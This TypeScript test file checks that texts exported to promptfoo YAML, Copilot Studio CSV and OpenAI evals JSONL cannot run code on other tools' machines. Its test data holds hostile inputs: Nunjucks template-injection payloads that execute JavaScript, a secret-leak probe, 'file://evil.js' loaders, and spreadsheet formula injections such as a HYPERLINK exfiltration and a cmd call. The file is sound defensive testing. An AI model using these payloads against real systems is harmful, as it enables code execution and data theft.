/**
 * Texts from a solution reach other tools' machines: nothing in them may run there (#37).
 * - promptfoo: every text is rendered here exactly as promptfoo renders it (its `renderPrompt`:
 *   file and package vars, `resolveVariables`, two Nunjucks passes over the prompt; its
 *   `runAssertion`: one pass over each assertion value), with real Nunjucks;
 * - Copilot Studio's CSV: no cell a spreadsheet would run as a formula;
 * - OpenAI evals: no line a reader could break in two.
 */
import nunjucks from 'nunjucks';
import { parse as parseYaml } from 'yaml';
import { beforeEach, describe, expect, test } from 'vitest';
import { decodeText, readText, writeText, type FileTree } from '../model/file-tree';
import { newSolution } from '../model/operations';
import { editJsonFile } from '../model/operation-support';
import { DEFAULT_SOLUTION_PATH } from '../model/plugin-manifest';
import { setSkillBody } from '../model/skill-edit';
import { skillPath } from '../model/skill-files';
import { INSTRUCTIONS_SKILL_NAME } from '../model/templates';
import { copilotCsvTarget, openAiEvalsTarget } from './evaluations';
import { promptfooTarget } from './promptfoo';
import type { ExportResult } from './types';

interface Texts {
  readonly title: string;
  readonly instructions: string;
  readonly examples: readonly { readonly input: string; readonly output?: string }[];
}

/** A solution holding exactly these texts. */
function solutionWith({ title, instructions, examples }: Texts): FileTree {
  const path = skillPath(INSTRUCTIONS_SKILL_NAME);
  const tree = newSolution(title);
  const written = writeText(tree, path, setSkillBody(readText(tree, path)!, instructions));
  const result = editJsonFile(written, DEFAULT_SOLUTION_PATH, ['examples'], examples);
  if (!result.ok) throw new Error(result.error.message);
  return result.tree;
}

const fileText = (result: ExportResult) => {
  const [output] = result.outputs;
  if (output?.kind !== 'file') throw new Error('not a file');
  return decodeText(output.bytes)!;
};

const WORD_JOINER = '\u2060';
const visible = (text: string) => text.replaceAll(WORD_JOINER, '');

declare global {
  var __pwned: number | undefined;
}
const RUN = 'globalThis.__pwned = 1';
beforeEach(() => {
  globalThis.__pwned = undefined;
});

interface PromptfooConfig {
  description: string;
  prompts: string[];
  defaultTest?: { vars: Record<string, string> };
  tests: { vars: Record<string, string>; assert?: { type: string; value: string }[] }[];
}

/** Nunjucks as promptfoo sets it up: no escaping, and `env` a global (here a stand-in). */
const engine = new nunjucks.Environment(null, { autoescape: false });
engine.addGlobal('env', { SECRET: 'leaked' });

/** promptfoo's `resolveVariables`: `{{ name }}` in a var is replaced by that var, for 5 rounds. */
function resolveVariables(vars: Record<string, string>): void {
  for (let round = 0; round < 5; round += 1) {
    let replaced = false;
    for (const [key, value] of Object.entries(vars)) {
      const match = /\{\{\s*(\w+)\s*\}\}/.exec(value);
      if (match && Object.hasOwn(vars, match[1]!)) {
        vars[key] = value.replace(match[0], vars[match[1]!]!);
        replaced = true;
      }
    }
    if (!replaced) return;
  }
}

/** A value promptfoo would load (and, for scripts and packages, run) instead of reading it. */
const loads = (value: string) => value.startsWith('file://') || value.startsWith('package:');

/** Each test of the exported configuration as promptfoo runs it, up to calling the model. */
function runLikePromptfoo(yamlText: string) {
  const config = parseYaml(yamlText) as PromptfooConfig;
  const loaded: string[] = [];
  const tests = config.tests.map((testCase) => {
    const vars: Record<string, string> = { ...config.defaultTest?.vars, ...testCase.vars };
    loaded.push(...Object.values(vars).filter(loads));
    for (const [key, value] of Object.entries(vars)) vars[key] = value.replace(/\n$/, '');
    resolveVariables(vars);
    const prompt = config.prompts[0]!;
    // The prompt is not JSON as it stands, so promptfoo renders it, then renders the result again.
    expect(() => JSON.parse(prompt) as unknown).toThrow();
    const rendered = engine.renderString(engine.renderString(prompt, vars), vars);
    const rubrics = (testCase.assert ?? []).map(({ value }) => {
      if (loads(value)) loaded.push(value);
      return engine.renderString(value, vars);
    });
    return { chat: JSON.parse(rendered) as { role: string; content: string }[], rubrics };
  });
  return { config, loaded, tests };
}

const hostile = [
  `{{ range.constructor("${RUN}")() }}`,
  // Single quotes come through `| dump` unchanged, so this one would run on the second pass.
  `{{ range.constructor('${RUN}')() }}`,
  `A text about endraw: {% endraw %}{{ range.constructor('${RUN}')() }}{% raw %}`,
  `{%- if range.constructor('${RUN}')() -%}{%- endif -%}`,
  `{{- range.constructor('${RUN}')() -}}`,
  `{{{ range.constructor('${RUN}')() }}}`,
  `Before {# a comment #} after, an open {# one and a closing #} one`,
  'It says {{ question }} and {{instructions}}, and shows {{ env.SECRET }}.',
  'file://evil.js',
  'package:evil:fn',
];

describe('promptfoo', () => {
  test.each(hostile)('nothing in %j runs, loads or changes, in any slot', (text) => {
    const tree = solutionWith({ title: text, instructions: text, examples: [{ input: text, output: text }] });
    const result = promptfooTarget(tree);
    const { config, loaded, tests } = runLikePromptfoo(fileText(result));

    expect(globalThis.__pwned).toBeUndefined();
    expect(loaded).toEqual([]);
    expect(tests).toHaveLength(1);
    const [{ chat, rubrics }] = tests as [(typeof tests)[0]];
    expect(chat.map(({ role, content }) => ({ role, content: visible(content) }))).toEqual([
      { role: 'system', content: text },
      { role: 'user', content: text },
    ]);
    // Rendering the rubric changed nothing in it, and it ends with the ideal answer.
    const written = config.tests[0]!.assert!.map(({ value }) => visible(value));
    expect(rubrics.map(visible)).toEqual(written);
    expect(written[0]!.endsWith(`\n\n${text}`)).toBe(true);
    // The title is not rendered by promptfoo; whether rendered no, one or two times, it stays.
    const title = config.description;
    expect(visible(title)).toBe(text);
    expect(visible(engine.renderString(title, {}))).toBe(text);
    expect(visible(engine.renderString(engine.renderString(title, {}), {}))).toBe(text);
    expect(globalThis.__pwned).toBeUndefined();

    expect(result.cannotCarry.filter((note) => note.includes('invisible character'))).toEqual([
      expect.stringMatching(/^The title holds marks/),
      expect.stringMatching(/^The instructions hold marks/),
      expect.stringMatching(/^Example 1 holds marks/),
    ]);
  });

  test('the control: the same texts without the invisible characters do run and load', () => {
    const payload = `{{ range.constructor('${RUN}')() }}`;
    const yamlText = fileText(
      promptfooTarget(
        solutionWith({
          title: 'Control',
          instructions: payload,
          examples: [{ input: 'file://evil.js', output: payload }],
        }),
      ),
    );
    expect(yamlText).toContain(WORD_JOINER);
    expect(runLikePromptfoo(yamlText).loaded).toEqual([]);
    expect(globalThis.__pwned).toBeUndefined();

    expect(runLikePromptfoo(visible(yamlText)).loaded).toEqual(['file://evil.js']);
    expect(globalThis.__pwned).toBe(1);
  });

  test('ordinary texts are written byte for byte, with no note', () => {
    const texts = {
      title: 'Shop { support } #1',
      instructions: 'Answer in JSON like {"ok": true}; 100% sure, {a} and { {b} } are fine.',
      examples: [
        {
          input: 'Where is order #42? It was {urgent}.',
          output: 'It left on Monday: see file:// links. 50%.',
        },
        { input: 'packages: where?', output: 'A file://x.js path.' },
      ],
    };
    const result = promptfooTarget(solutionWith(texts));
    const yamlText = fileText(result);
    expect(yamlText).not.toContain(WORD_JOINER);
    expect(result.cannotCarry.join('\n')).not.toMatch(/invisible/);
    const { config, tests } = runLikePromptfoo(yamlText);
    expect(config.description).toBe(texts.title);
    expect(config.defaultTest?.vars.instructions).toBe(`${texts.instructions}\n`);
    expect(config.tests.map((testCase) => testCase.vars.question)).toEqual(
      texts.examples.map((example) => example.input),
    );
    expect(tests.map(({ chat }) => chat[1]?.content)).toEqual(texts.examples.map((example) => example.input));
    tests.forEach(({ rubrics }, index) =>
      expect(rubrics[0]!.endsWith(`\n\n${texts.examples[index]!.output}`)).toBe(true),
    );
  });

  test('several changed examples share one sentence', () => {
    const result = promptfooTarget(
      solutionWith({
        title: 'Shop',
        instructions: 'Be kind.',
        examples: [{ input: '{{ a }}' }, { input: 'plain' }, { input: 'plain', output: '{% b %}' }],
      }),
    );
    expect(result.cannotCarry.filter((note) => note.includes('invisible character'))).toEqual([
      expect.stringMatching(/^Examples 1, 3 hold marks promptfoo would take as its own commands/),
    ]);
  });
});

/** Copilot Studio's CSV: every field quoted, records ended by CRLF (the writer's own shape). */
const csvRecords = (csv: string) =>
  csv
    .slice(1, -3)
    .split('"\r\n"')
    .map((record) => record.split('","').map((field) => field.replace(/""/g, '"')));

describe('Copilot Studio CSV', () => {
  const formulas = [
    '=HYPERLINK("http://x/?leak="&A2,"a")',
    "=cmd|'/c calc'!A1",
    '+1+1',
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '\n@SUM(1)',
    '\uFF1D1+1',
  ];

  test('a cell a spreadsheet would run starts with an apostrophe, and a note says so', () => {
    const examples = formulas.map((formula) => ({ input: formula, output: formula }));
    const result = copilotCsvTarget(solutionWith({ title: 'Shop', instructions: 'Be kind.', examples }));
    const [header, ...rows] = csvRecords(fileText(result));
    expect(header).toEqual(['question', 'expectedResponse']);
    expect(rows).toEqual(formulas.map((formula) => [`'${formula}`, `'${formula}`]));
    expect(result.cannotCarry).toContain(
      "Examples 1, 2, 3, 4, 5, 6, 7, 8, 9, 10 have questions or answers beginning with a sign a spreadsheet would run as a formula (such as = or -), so the file starts those texts with an apostrophe (') to keep them plain text.",
    );
  });

  test('only the cell that needs it changes; ordinary cells and the answer-less stay as they are', () => {
    const examples = [
      { input: 'What is 2+2? a=b', output: '=2+2' },
      { input: 'Plain question', output: 'Plain answer - with a dash' },
      { input: 'No answer' },
    ];
    const result = copilotCsvTarget(solutionWith({ title: 'Shop', instructions: 'Be kind.', examples }));
    expect(csvRecords(fileText(result)).slice(1)).toEqual([
      ['What is 2+2? a=b', "'=2+2"],
      ['Plain question', 'Plain answer - with a dash'],
      ['No answer', ''],
    ]);
    expect(result.cannotCarry.filter((note) => note.includes('apostrophe'))).toEqual([
      "Example 1 has a question or answer beginning with a sign a spreadsheet would run as a formula (such as = or -), so the file starts that text with an apostrophe (') to keep it plain text.",
    ]);
    const ordinary = copilotCsvTarget(
      solutionWith({ title: 'Shop', instructions: 'Be kind.', examples: examples.slice(1) }),
    );
    expect(ordinary.cannotCarry.join('\n')).not.toMatch(/apostrophe/);
  });
});

describe('OpenAI evals JSONL', () => {
  test('line and paragraph separators are written escaped, so each sample is one line to any reader', () => {
    const odd = 'one\u2028two\u2029three';
    const result = openAiEvalsTarget(
      solutionWith({ title: 'Shop', instructions: odd, examples: [{ input: odd, output: odd }] }),
    );
    const text = fileText(result);
    expect(text).not.toMatch(/[\u2028\u2029]/);
    expect(text).toContain('one\\u2028two\\u2029three');
    const lines = text.split(/\r\n|[\n\r\u0085\u2028\u2029]/);
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toEqual({
      input: [
        { role: 'system', content: `${odd}\n` },
        { role: 'user', content: odd },
      ],
      ideal: odd,
    });
  });
});
